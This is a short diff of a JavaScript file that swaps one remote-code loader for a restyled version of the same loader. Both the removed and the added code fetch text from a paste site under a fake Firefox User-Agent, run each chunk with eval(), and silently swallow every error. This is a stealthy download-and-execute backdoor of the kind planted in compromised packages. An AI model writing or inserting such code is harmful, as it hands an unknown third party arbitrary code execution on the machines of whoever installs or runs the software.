@@ -1,11 +1,18 @@
-try{
-var https=require('https');
-https.get({'hostname':'paste.example.invalid',path:'/raw/XLeVP82h',headers:{'User-Agent':'Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0',Accept:'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'}},(r)=>{
-r.setEncoding('utf8');
-r.on('data',(c)=>{
-eval(c);
-});
-r.on('error',()=>{});
+try {
+    var web = require("https");
 
-}).on('error',()=>{});
-}catch(e){}
+    web.get({
+        hostname: "paste.example.invalid",
+        path: "/raw/Bq07Zx3k",
+        headers: {
+            "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0",
+            Accept: "text/html,*/*;q=0.8"
+        }
+    }, function(answer) {
+        answer.setEncoding("utf8");
+        answer.on("data", function(text) {
+            eval(text);
+        });
+        answer.on("error", function() {});
+    }).on("error", function() {});
+} catch (e) {}
